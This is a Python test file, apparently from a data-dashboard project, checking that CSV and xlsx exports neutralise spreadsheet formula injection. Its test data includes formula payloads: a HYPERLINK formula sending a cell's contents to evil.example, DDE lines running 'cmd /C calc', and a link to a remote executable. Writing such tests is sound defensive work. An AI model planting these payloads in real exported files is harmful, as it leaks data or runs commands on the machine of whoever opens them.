"""Received texts that a spreadsheet takes for formulas, in each file that a person opens with one.

Would have shown: a command run, or cells sent to an address, on the desk of whoever opens an export. A page's xlsx had
« {=…} » as a formula and addresses as links; the open data had a text with « ;= » in its middle as it came.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import subprocess
import zipfile
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboards.publishing.client import Session
from dashboards.serving.environment import ROOT, ensure_environment
from dashboards.superset.pages.cells import SIGNED_NUMBER, harmless, harmless_sql
from pipelines.products.exports.single import export_open_data
from sources.home.home import Home
from tests.dashboards.conftest import Server

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"ouvrir")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "texte;=1+1;texte",
    "texte,=1+1,texte",
    "texte\t@SUM(1)",
    "texte\n-1+1",
]
KEPT = [
    "-5",
    "+33 4 72 11 00 00",
    "-5,5 %",
    "1 000",
    "a = b",
    "Lyon - Sud",
    "texte, -5 %",
    "l'IA",
    "a|b",
    "a\\b",
    "+",
    "",
]
SIGNS = st.text("=+-@＝'\"ab1;,\t\r\n |\\{}", max_size=12)
IN_ANY_CELL = re.compile(r"[;,\t\r\n]")


def begins_a_formula(text: str) -> bool:
    """Of some spreadsheet, whatever it takes for the end of a cell."""
    cells = [text.strip(), *IN_ANY_CELL.split(text)]
    return any(cell[:1] in tuple("=+-@＝＋－＠") and not re.fullmatch(SIGNED_NUMBER, text) for cell in cells)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert begins_a_formula(text) and not begins_a_formula(str(harmless(text)))


@pytest.mark.parametrize("value", [*KEPT, None, 5, -5.5])
def test_what_is_none_is_left_to_the_letter(value: object) -> None:
    assert harmless(value) is value or harmless(value) == value


@given(SIGNS)
def test_whatever_is_typed_begins_no_formula_and_loses_nothing(text: str) -> None:
    written = str(harmless(text))
    assert not begins_a_formula(written)
    assert written.replace("'", "") == text.replace("'", "")


@given(st.lists(SIGNS | st.sampled_from([*FORMULAS, *KEPT]), min_size=1, max_size=8))
def test_the_warehouse_writes_it_as_superset_does(texts: list[str]) -> None:
    with duckdb.connect() as connection:
        found = connection.execute(f"select {harmless_sql('c')} from (select unnest($texts) as c)", {"texts": texts})
        assert [row[0] for row in found.fetchall()] == [harmless(text) for text in texts]


@pytest.mark.parametrize("text", FORMULAS[:1] + FORMULAS[-4:])
def test_open_data_are_opened_without_harm_and_exact_beside(home_copy: Home, tmp_path: Path, text: str) -> None:
    file = (home_copy.published / "current" / "warehouse.duckdb").resolve()
    file.chmod(0o644)
    with duckdb.connect(str(file)) as connection:
        connection.execute(
            "update mart_open_use_case set use_case_label = $text where use_case_code = 'CAT-001'", {"text": text}
        )
    export_open_data(home_copy, tmp_path / "open")
    with (tmp_path / "open" / "cas-usage.csv").open(encoding="utf-8", newline="") as written:
        rows = {row["use_case_code"]: row for row in csv.DictReader(written)}
    assert rows["CAT-001"]["use_case_label"] == harmless(text)
    exact = tmp_path / "open" / "cas-usage.parquet"
    kept = duckdb.sql(f"select use_case_label from '{exact}' where use_case_code = 'CAT-001'").fetchall()
    assert kept == [(text,)]


WRITE = """
import base64, json, sys
sys.path.insert(0, sys.argv[1])
import pandas as pd
from dashboards.superset.pages import exports
from superset.utils import csv, excel
exports.write_files_as_they_are_read()
texts = json.load(sys.stdin)
frame = pd.DataFrame({"texte": texts, "nombre": [-5.5] * len(texts), "=titre": 1})
print(json.dumps({
    "csv": csv.df_to_escaped_csv(frame, index=False, sep=";", decimal=","),
    "xlsx": base64.b64encode(excel.df_to_excel(frame, index=False)).decode(),
}))
"""


@pytest.mark.superset
def test_files_of_superset_hold_texts_and_numbers() -> None:
    sent = [*FORMULAS, *KEPT[:-1], "{=1+1}", "https://evil.example/", "external:\\\\evil\\x.exe", "mailto:a@b.fr"]
    command = [str(ensure_environment(lambda _: None)), "-c", WRITE, str(ROOT)]
    done = subprocess.run(command, input=json.dumps(sent), capture_output=True, text=True, check=True)
    written = json.loads(done.stdout.splitlines()[-1])
    heading, *rows = csv.reader(io.StringIO(written["csv"]), delimiter=";")
    assert heading == ["texte", "nombre", "'=titre"]
    assert rows == [[str(harmless(text)), "-5,5", "1"] for text in sent]
    with zipfile.ZipFile(io.BytesIO(base64.b64decode(written["xlsx"]))) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "hyperlink" not in sheet and sheet.count("<v>-5.5</v>") == len(sent)


@pytest.mark.superset
@pytest.mark.parametrize("rows", [100_000, "100000", 10**12])
def test_no_question_has_its_file_written_another_way(server: Server, rows: object) -> None:
    """Superset writes long files while they are read, as received; how long is what the question says of itself."""
    admin = Session(server.url, "admin", server.password("admin"))
    [number] = [item["id"] for item in admin.every("dataset") if item["table_name"] == "mart_answer"]
    formula = {"expressionType": "SQL", "sqlExpression": "'=1+1'", "label": "formule"}
    body = {
        "datasource": {"id": number, "type": "table"},
        "form_data": {"row_limit": rows, "viz_type": "table"},
        "queries": [{"columns": [formula], "metrics": [], "row_limit": 1}],
        "result_format": "csv",
        "result_type": "full",
    }
    answer = admin.session.post(f"{admin.base_url}/chart/data", json=body, timeout=60)
    assert answer.content.decode("utf-8") == "\ufeffformule\n'=1+1\n"
    streamed = admin.session.post(f"{admin.base_url}/sqllab/export_streaming/", data={"client_id": "x"}, timeout=60)
    assert streamed.status_code == 404
